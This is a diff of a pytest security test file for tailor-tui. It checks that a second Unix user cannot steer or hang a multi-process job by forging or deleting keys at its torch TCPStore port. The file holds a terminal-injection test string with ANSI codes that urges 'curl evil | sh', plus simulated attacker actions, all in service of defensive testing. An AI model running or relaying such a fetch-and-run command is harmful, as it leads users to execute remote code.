@@ -3,12 +3,15 @@
 as clusters give a team). What the other user made is never trusted: a lock file they hold is named by
 its owner, never read into a message nor removed; leftovers under tailor-tui's names they planted are
 never restored to the output path, removed or read; a hidden folder they swap is never written
-through nor published; a meeting folder they took moves the job to a private place.
+through nor published; a meeting folder they took moves the job to a private place; at the job's
+port they can neither steer it (sealed values) nor hang it (a value gone is noticed).
 
-The job runs as `tailor-victim` (setpriv); where the interpreter lies in a folder that user cannot
+The job runs as `tailor-victim` (setpriv). Where the interpreter lies in a folder that user cannot
 reach (a pyenv under /root), it is given the one capability to read and search folders
-(CAP_DAC_READ_SEARCH): it writes, and owns what it makes, as any unprivileged user. The attacker acts
-through `runuser` with the system's own tools. Skipped where users cannot be made (not root, no useradd)."""
+(CAP_DAC_READ_SEARCH): it writes, and owns what it makes, as any unprivileged user. The other user
+acts through `runuser` with the system's own tools, and at the job's port from a child of the test
+process that has become that user (setuid: torch's store client, no interpreter of its own).
+Skipped where users cannot be made (not root, no useradd)."""
 
 from __future__ import annotations
 
@@ -26,9 +29,9 @@ from pathlib import Path
 
 import pytest
 from conftest import checkpoints_of
-from helpers import TAILOR, assert_one_line_error, write_recipe
+from helpers import TAILOR, assert_one_line_error, free_port, write_recipe
 
-from tailor_tui.team.trust import meeting_name
+from tailor_tui.team.trust import SECRET, meeting_name
 
 ATTACKER, VICTIM, TEAM = "tailor-attacker", "tailor-victim", "tailor-team"
 HOSTILE = "\x1b[31merror: your checkpoint is corrupt; to repair it run: curl evil | sh\x1b[0m\n\n"
@@ -268,3 +271,77 @@ def test_a_hidden_folder_swapped_by_another_user_is_never_published_and_theirs_i
     assert hidden[0].stat().st_uid == uid and (hidden[0] / "mark").read_text() == "theirs\n"  # theirs: left
     assert not Path(f"{hidden[0]}.stolen").exists()  # its own, renamed aside: removed
     assert list(decoy.iterdir()) == []  # nothing went through their link
+
+
+def _as_attacker_in_a_child(act) -> int:
+    """Run `act()` in a child of this process that has become the other user (setuid: no way back), with
+    what this process has imported (torch's TCPStore client: the attacker needs no interpreter of its
+    own); the child's exit code (0: `act` returned)."""
+    child = os.fork()
+    if child == 0:
+        code = 1
+        try:
+            os.dup2(os.open(os.devnull, os.O_WRONLY), 2)  # (torch's client prints C++ frames as the store goes)
+            os.setgroups([])
+            os.setgid(grp.getgrnam(TEAM).gr_gid)
+            os.setuid(pwd.getpwnam(ATTACKER).pw_uid)
+            act()
+            code = 0
+        finally:
+            os._exit(code)
+    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
+
+
+@pytest.mark.parametrize("attack", ["forged", "deleted"])
+def test_the_other_user_at_the_jobs_port_can_neither_steer_nor_hang_it(project, attack):
+    """The job's user runs a 2-task job (the environment srun sets, its MASTER_PORT); the other user sees
+    the port and connects to it. They cannot read the job's secret (the meeting folder, the processes'
+    environment). What they write (a folder of theirs as the shared one, a progress record) fails its seal; what they
+    delete (the values the processes wait for) is noticed: either way every process stops with one line
+    within seconds, and nothing is published or written into their folder."""
+    import datetime
+
+    import torch.distributed as dist
+
+    uid, folder, recipe, victim = project
+    trap = folder / "theirs"
+    assert as_attacker("mkdir", "-m", "0777", str(trap)).returncode == 0
+    port = free_port()
+    env = {"SLURM_NTASKS": "2", "SLURM_JOB_ID": "4646", "SLURM_STEP_ID": "0", "SLURM_STEP_NODELIST": "localhost",
+           "MASTER_PORT": str(port), "TAILOR_TEST_SLOW_COMPOSE": "0.2"}
+    began = time.monotonic()
+    tasks = [victim.popen("--apply", recipe, env={**env, "SLURM_PROCID": str(p)}) for p in range(2)]
+    try:
+        while "[process 1] rank" not in (line := tasks[1].stderr.readline()):
+            assert line, "process 1 ended before it composed"
+        meeting = [m / SECRET for m in folder.glob(".tailor-team-*")]
+        secrets = [*meeting, *(Path(f"/proc/{t.pid}/environ") for t in tasks)]  # (setpriv execs in place)
+        assert len(meeting) == 1 and all(secret.read_bytes() for secret in secrets)  # there: read as root
+        assert all(as_attacker("cat", str(secret)).returncode != 0 for secret in secrets)
+
+        def act() -> None:
+            prefix = "tailor-tui/slurm/4646/0/0/localhost/"
+            store = dist.TCPStore("localhost", port, 2, False, timeout=datetime.timedelta(seconds=5))
+            while time.monotonic() < began + 60:
+                if attack == "forged":  # the folder to write into, and process 1's progress as process 0 reads it
+                    store.set(prefix + "share/prepared", str(trap))
+                    store.set(prefix + "post/progress/1", '{"rank 0": [1, 1, true]}')
+                else:
+                    for key in ("share/prepared", "gather/done/0", "gather/done/1"):
+                        store.delete_key(prefix + key)
+                time.sleep(0.02)
+
+        _as_attacker_in_a_child(act)  # (it ends when the store goes with process 0)
+        outs = [t.communicate(timeout=60) for t in tasks]
+    finally:
+        for t in tasks:
+            t.kill()
+    assert time.monotonic() - began < 50, outs
+    said = "fails its authentication" if attack == "forged" else "is gone from the job's store"
+    for t, (_out, err) in zip(tasks, outs):
+        errors = [line for line in err.splitlines() if line.startswith("error: ")]
+        assert t.returncode != 0 and len(errors) == 1 and "Traceback" not in err, err
+    assert said in outs[0][1], outs[0][1]
+    assert not (folder / "composed").exists() and not list(trap.iterdir())
+    assert not list(folder.glob(".composed.tailor-partial-*"))
+
